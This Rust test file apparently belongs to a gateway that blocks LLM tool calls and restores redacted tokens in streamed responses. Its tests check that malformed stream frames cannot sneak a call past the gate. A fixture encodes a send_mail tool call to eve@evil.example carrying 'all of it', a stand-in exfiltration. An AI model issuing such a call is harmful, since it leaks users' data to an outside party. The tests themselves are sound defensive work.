//! Unusual stream frames: none releases a call undecided, and text is restored wherever it is streamed.

use std::fmt::Write as _;

use ombud_core::gate::Gate;
use rstest::rstest;
use serde_json::{Value, json};

use super::harness::*;

const EVIL: &str = r#"{\"to\": \"eve@evil.example\", \"body\": \"all of it\"}"#;

fn asked(path: &str, stream: bool) -> String {
    let message = json!([{ "role": "user", "content": format!("what is the weather? {PHONE}") }]);
    let field = if path.ends_with("responses") { "input" } else { "messages" };
    let tools = json!([{ "type": "function", "name": "send_mail", "function": { "name": "send_mail", "parameters": {} } }]);
    json!({ "model": "m", "stream": stream, field: message, "tools": tools }).to_string()
}

fn call(more: &str) -> String {
    format!(
        r#"{{{more}"choices":[{{"index":0,"delta":{{"tool_calls":[{{"index":0,"id":"t","type":"function","function":{{"name":"send_mail","arguments":"{EVIL}"}}}}]}},"finish_reason":"tool_calls"}}]}}"#
    )
}

/// Returns what the client receives for these bytes of an event stream.
async fn streamed(path: &str, bytes: String) -> String {
    let rig = Rig::with(
        move |_, _| events(bytes.clone()),
        |config| {
            config.tools.mode = Some(Gate::Block);
        },
    )
    .await;
    rig.post(path, asked(path, true)).await.text().await.unwrap()
}

#[rstest]
#[case::nan(format!("data: {}\n\ndata: [DONE]\n\n", call("\"x\":NaN,")))]
#[case::infinity(format!("data: {}\n\ndata: [DONE]\n\n", call("\"x\":-Infinity,")))]
#[case::carriage_returns(format!("data: {}\r\rdata: [DONE]\r\r", call("")))]
#[case::mark(format!("\u{feff}data: {}\n\ndata: [DONE]\n\n", call("")))]
#[case::no_blank_line(format!("data: {}", call("")))]
#[case::message(format!("data: {}\n\ndata: [DONE]\n\n", call("").replace("\"delta\"", "\"message\"")))]
#[case::broken(format!("data: {}\n\ndata: [DONE]\n\n", call("\"x\":nan,")))]
#[case::deep(format!("data: {}\n\ndata: [DONE]\n\n", call(&format!("\"x\":{}{},", "[".repeat(300), "]".repeat(300)))))]
#[tokio::test(flavor = "multi_thread")]
async fn no_frame_releases_a_call_undecided(#[case] bytes: String) {
    let got = streamed("/v1/chat/completions", bytes).await;
    assert!(!got.contains("\"tool_calls\""), "{got}");
    assert!(got.contains("Ombud") || got.contains("send_mail"), "{got}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_frame_that_cannot_be_read_ends_the_stream_with_an_error() {
    let first = json!({ "choices": [{ "index": 0, "delta": { "content": "Hm." } }] });
    let got =
        streamed("/v1/chat/completions", format!("data: {first}\n\ndata: {}\n\n", call("\"x\":nan,"))).await;
    assert!(got.contains("Hm.") && got.contains("ombud_frame_not_readable"), "{got}");
    let block =
        json!({ "type": "tool_use", "id": "t", "name": "send_mail", "input": { "to": "eve@evil.example" } });
    let start = json!({ "type": "message_start", "message": { "content": [block] } });
    let got = streamed("/v1/messages", format!("event: message_start\ndata: {start}\n\n")).await;
    assert!(got.starts_with("event: error") && !got.contains("evil.example"), "{got}");
}

#[rstest]
#[case::only_at_the_end(false)]
#[case::only_as_done(true)]
#[tokio::test(flavor = "multi_thread")]
async fn a_call_of_a_response_is_judged_wherever_it_is_said_first(#[case] done: bool) {
    let item = json!({ "type": "function_call", "call_id": "c", "name": "send_mail", "arguments": "{\"to\": \"eve@evil.example\"}" });
    let mut bytes = String::new();
    if done {
        write!(
            bytes,
            "data: {}\n\n",
            json!({ "type": "response.output_item.done", "output_index": 0, "item": item })
        )
        .unwrap();
    }
    write!(
        bytes,
        "data: {}\n\n",
        json!({ "type": "response.completed", "response": { "status": "completed", "output": [item] } })
    )
    .unwrap();
    let got = streamed("/v1/responses", bytes).await;
    assert!(!got.contains("function_call"), "{got}");
    assert!(got.contains("msg_ombud_0_c"), "{got}");
}

fn pieces(text: &str) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    chars.chunks(3).map(|piece| piece.iter().collect()).collect()
}

/// Joins the strings at a JSON pointer in the frames.
fn joined(text: &str, pointer: &str) -> String {
    let frames =
        text.split("\n\n").filter_map(|frame| frame.lines().find_map(|line| line.strip_prefix("data: ")));
    let values = frames.filter_map(|data| serde_json::from_str::<Value>(data).ok());
    values.filter_map(|frame| frame.pointer(pointer).and_then(Value::as_str).map(str::to_owned)).collect()
}

/// Returns what the client receives for the frames that `frame` makes of the pieces of a text with a token.
async fn restored(
    path: &'static str,
    frame: impl Fn(&str) -> Value + Send + Sync + 'static,
    end: &'static str,
) -> String {
    let rig = Rig::new(move |_, body| {
        let token = token(&String::from_utf8_lossy(body), "PHONE");
        let mut out = String::new();
        for piece in pieces(&format!("call {token} now")) {
            write!(out, "data: {}\n\n", frame(&piece)).unwrap();
        }
        events(out + end)
    })
    .await;
    let body = asked(path, true);
    rig.post(path, body).await.text().await.unwrap()
}

#[rstest]
#[case::transcript("/audio/transcript", |piece: &str| json!({ "audio": { "id": "a", "transcript": piece } }))]
#[case::details("/reasoning_details/0/text", |piece: &str| json!({ "reasoning_details": [{ "type": "reasoning.text", "text": piece, "index": 0 }] }))]
#[case::parts("/content/0/text", |piece: &str| json!({ "content": [{ "type": "text", "text": piece }] }))]
#[case::thinking_parts("/content/0/thinking/0/text", |piece: &str| json!({ "content": [{ "type": "thinking", "thinking": [{ "type": "text", "text": piece }] }] }))]
#[case::thinking("/thinking", |piece: &str| json!({ "thinking": piece }))]
#[case::reasoning_text("/reasoning_text", |piece: &str| json!({ "reasoning_text": piece }))]
#[case::invented("/brand_new/text", |piece: &str| json!({ "brand_new": { "text": piece } }))]
#[tokio::test(flavor = "multi_thread")]
async fn every_text_that_grows_in_a_chat_is_restored(
    #[case] pointer: &str,
    #[case] delta: fn(&str) -> Value,
) {
    let end =
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";
    let frame = move |piece: &str| json!({ "choices": [{ "index": 0, "delta": delta(piece) }] });
    let got = restored("/v1/chat/completions", frame, end).await;
    assert_eq!(joined(&got, &format!("/choices/0/delta{pointer}")), format!("call {PHONE} now"));
}

#[rstest]
#[case("mcp_call_arguments")]
#[case("code_interpreter_call_code")]
#[case("audio.transcript")]
#[case("output_audio_transcript")]
#[case("reasoning_text")]
#[case("reasoning_summary_text")]
#[case("brand_new_text")]
#[tokio::test(flavor = "multi_thread")]
async fn every_text_that_grows_in_a_response_is_restored(#[case] kind: &'static str) {
    let frame = move |piece: &str| json!({ "type": format!("response.{kind}.delta"), "output_index": 0, "delta": piece });
    let end =
        "data: {\"type\":\"response.completed\",\"response\":{\"status\":\"completed\",\"output\":[]}}\n\n";
    let got = restored("/v1/responses", frame, end).await;
    assert_eq!(joined(&got, "/delta"), format!("call {PHONE} now"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_block_may_begin_with_half_a_token() {
    for cut in 1..14 {
        let rig = Rig::new(move |_, body| {
            let token = token(&String::from_utf8_lossy(body), "PHONE");
            let (head, tail) = token.split_at(cut);
            let start = json!({ "type": "content_block_start", "index": 0, "content_block": { "type": "text", "text": head } });
            let delta = json!({ "type": "content_block_delta", "index": 0, "delta": { "type": "text_delta", "text": tail } });
            let more = if cut == 1 { String::new() } else { format!("event: content_block_delta\ndata: {delta}\n\n") };
            events(format!("event: content_block_start\ndata: {start}\n\n{more}event: content_block_stop\ndata: {{\"type\":\"content_block_stop\",\"index\":0}}\n\nevent: message_stop\ndata: {{\"type\":\"message_stop\"}}\n\n"))
        })
        .await;
        let got = rig.post("/v1/messages", asked("/v1/messages", true)).await.text().await.unwrap();
        let said = joined(&got, "/content_block/text") + &joined(&got, "/delta/text");
        assert_eq!(said, if cut == 1 { "P" } else { PHONE }, "{got}");
        assert_eq!(got.matches("event: content_block_start").count(), 1, "{got}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_compaction_is_restored() {
    let frame = |piece: &str| json!({ "type": "content_block_delta", "index": 0, "delta": { "type": "compaction_delta", "content": piece } });
    let end = "data: {\"type\":\"content_block_stop\",\"index\":0}\n\ndata: {\"type\":\"message_stop\"}\n\n";
    assert_eq!(
        joined(&restored("/v1/messages", frame, end).await, "/delta/content"),
        format!("call {PHONE} now")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn halves_of_a_character_reach_the_client_as_they_came() {
    let rig = Rig::new(|_, body| {
        let token = token(&String::from_utf8_lossy(body), "PHONE");
        let mut out = String::new();
        for piece in [r"a\ud83d".to_owned(), format!(r"\ude00 {}", &token[..5]), token[5..].to_owned()] {
            write!(out, "data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{piece}\"}}}}]}}\n\n")
                .unwrap();
        }
        events(out + "data: [DONE]\n\n")
    })
    .await;
    let got =
        rig.post("/v1/chat/completions", asked("/v1/chat/completions", true)).await.text().await.unwrap();
    let pieces: String =
        got.split("\"content\":\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
    assert_eq!(
        serde_json::from_str::<String>(&format!("\"{pieces}\"")).unwrap(),
        format!("a😀 {PHONE}"),
        "{got}"
    );
}
